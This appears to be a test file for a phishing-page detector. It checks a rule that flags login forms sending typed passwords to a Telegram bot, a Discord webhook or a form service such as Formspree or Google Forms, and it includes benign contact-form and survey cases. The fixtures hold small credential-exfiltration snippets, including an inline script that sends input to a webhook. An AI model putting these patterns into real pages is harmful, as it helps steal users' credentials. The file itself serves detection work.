"""What is typed goes to a messenger's bot, or to a service that takes anybody's forms."""

from __future__ import annotations

import pytest
from tests.pages.captures import found, landed, login, page

from gyotaku.model import Strength

ID = "posts-to-messenger"


@pytest.mark.parametrize(
    ("html", "strength", "variant"),
    [
        (login(action="https://api.telegram.org/bot1:x/sendMessage"), Strength.DECISIVE, "messenger"),
        (login(action="https://formspree.io/f/x"), Strength.STRONG, "form-service"),
        (
            login(extra="<script>new Image().src='https://discord.com/api/webhooks/1/x?content='+v</script>"),
            Strength.DECISIVE,
            "messenger",
        ),
    ],
)
def test_secrets_to_a_private_inbox(html: str, strength: Strength, variant: str) -> None:
    """A password on its way to a bot is decisive, to a form service strong."""
    (finding,) = found(ID, landed(page(html)))
    assert (finding.strength, finding.facts["variant"]) == (strength, variant)


def test_a_questionnaire_that_asks_for_passwords() -> None:
    """A form made by anybody at a form service, asking for a password, is strong."""
    html = "<title>メールボックスの確認</title><div>パスワード</div><input name=entry.1>"
    (finding,) = found(ID, landed(page(html, url="https://docs.google.com/forms/d/e/x/viewform")))
    assert finding.facts["variant"] == "form-page"


def test_honest_twin_contact_form() -> None:
    """A contact form that arrives in a firm's chat asks for no secrets and stays silent."""
    html = '<form action="https://discord.com/api/webhooks/1/x"><input type=email><textarea></textarea></form>'
    assert found(ID, landed(page(html))) == ()


def test_honest_twin_survey() -> None:
    """A questionnaire that asks for an address only stays silent."""
    html = "<input name=entry.1 placeholder=メールアドレス>"
    assert found(ID, landed(page(html, url="https://docs.google.com/forms/d/e/x/viewform"))) == ()
